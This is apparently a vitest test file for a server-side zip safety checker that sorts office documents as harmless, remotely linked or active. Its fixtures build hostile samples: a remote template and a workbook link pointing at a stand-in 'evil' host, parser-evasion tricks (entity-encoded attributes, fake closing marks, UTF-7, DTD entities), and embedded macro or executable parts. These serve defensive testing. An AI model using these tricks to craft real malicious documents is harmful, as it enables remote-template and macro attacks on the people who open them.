import { describe, expect, test } from "vitest";
import { judgeZip } from "../../../server/http/zip-safety.ts";
import { docxOf, zipOf } from "../../api/assessments/corpus.ts";

const x = Buffer.from("x");
const zeros = Buffer.alloc(3 * 1024 * 1024);
const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relations = (relation: string, head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>') => Buffer.from(`${head}<Relationships>${relation}</Relationships>`);
const withRelations = (bytes: Buffer, part = "word/_rels/document.xml.rels") => docxOf([part, bytes]);
const withRelation = (relation: string) => withRelations(relations(relation));

describe("an office document as people make them is taken", () => {
  test.each<[string, Buffer]>([
    ["with nothing but a text", docxOf()],
    ["with pictures, fonts and a preview", docxOf(["word/media/image1.png", x], ["word/media/image2.EMF", x], ["word/fonts/font1.odttf", x], ["docProps/thumbnail.jpeg", x])],
    ["with what Excel keeps of a printer, and its notes", docxOf(["xl/printerSettings/printerSettings1.bin", x], ["xl/drawings/vmlDrawing1.vml", x])],
    ["with a chart and its figures", docxOf(["word/charts/chart1.xml", x], ["word/embeddings/Microsoft_Excel_Worksheet.xlsx", docxOf()])],
    ["with its folders listed", docxOf(["word/", Buffer.alloc(0)])],
    ["with links people follow", withRelation(`<Relationship Id="r1" Type="${types}/hyperlink" Target="https://guild.example/?a=1&amp;b=2" TargetMode="External"/>`)],
    ["with parts that are said to be within", withRelation(`<Relationship Id='r1' Type='${types}/image' Target='media/image1.png' TargetMode='Internal'/>`)],
  ])("%s", async (_, bytes) => expect(await judgeZip(bytes)).toBe("HARMLESS"));
});

describe("an office document that fetches something by itself is refused", () => {
  const template = (more: string) => `<Relationship Id="r1" Type="${types}/attachedTemplate" Target="https://evil.example/t.dotm" ${more}/>`;
  test.each<[string, Buffer]>([
    ["a template", withRelations(relations(template('TargetMode="External"')), "word/_rels/settings.xml.rels")],
    ["a workbook", docxOf(["xl/externalLinks/_rels/externalLink1.xml.rels", relations(`<Relationship Id="r" Type="${types}/externalLinkPath" Target="file://evil/x.xlsx" TargetMode="External"/>`)])],
    ["a template, written with spaces and other quotes", withRelation(template("\n TargetMode = 'External'"))],
    ["a template, spelled by the number of its letters", withRelation(template('TargetMode="&#69;xternal"'))],
    ["a template behind a mark that looks like an end", withRelation(template('Id2=">" TargetMode="External"'))],
    ["a template that also calls itself a link", withRelation(template(`TargetMode="External" TargetMode2="" Note='Type="${types}/hyperlinks"'`))],
    ["a template in a chart's figures", docxOf(["word/embeddings/figures.xlsx", withRelation(template('TargetMode="External"'))])],
  ])("%s", async (_, bytes) => expect(await judgeZip(bytes)).toBe("LINKED"));
});

describe("an office document that carries programs, or tells untruths, is refused", () => {
  test.each<[string, Buffer]>([
    ...["word/embeddings/run.hta", "word/embeddings/x.lnk", "word/embeddings/y.wsf", "word/embeddings/Macro.xlsm", "word/embeddings/oleObject1.bin", "word/vbaProject.bin",
      "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.xml", "xl/worksheets/sheet1.bin", "word/embeddings/page.html", "noending"].map((name) => [name, docxOf([name, x])] as [string, Buffer]),
    ["a document within a document within a document", docxOf(["word/embeddings/a.docx", docxOf(["word/embeddings/b.docx", docxOf()])])],
    ["relations in another character set", withRelations(Buffer.from(relations("").toString(), "utf16le"))],
    ["relations in a character set they name", withRelations(relations("", '<?xml version="1.0" encoding="UTF-7"?>'))],
    ["relations with words of their own", withRelations(relations("", '<!DOCTYPE r [<!ENTITY e "External">]>'))],
    ["kinds that include macros", zipOf([["[Content_Types].xml", Buffer.from("application/vnd.ms-word.document.macroEnabled.main+xml")]])],
    ["a part larger than its list says", docxOf(["word/a.xml", zeros, { listed: 1000 }])],
    ["a part larger than list and part say", docxOf(["word/a.xml", zeros, { listed: 1000, own: 1000 }])],
    ["a part smaller than it says", docxOf(["word/a.xml", x, { listed: 1000, own: 1000 }])],
    ["a part of two names", docxOf(["word/a.xml", x, { ownName: "word/a.hta" }])],
    ["two parts of one name", docxOf(["word/a.xml", x], ["Word/A.xml", x])],
    ["something behind its end", Buffer.concat([docxOf(), x])],
    ["something before its list", spread(docxOf(), 40)],
  ])("%s", async (_, bytes) => expect(await judgeZip(bytes)).toBe("ACTIVE"));
});

/** An archive with room before its list, in which another program's could lie. */
function spread(archive: Buffer, room: number): Buffer {
  const end = archive.length - 22;
  const list = archive.readUInt32LE(end + 16);
  const moved = Buffer.concat([archive.subarray(0, list), Buffer.alloc(room), archive.subarray(list)]);
  moved.writeUInt32LE(list + room, end + room + 16);
  return moved;
}
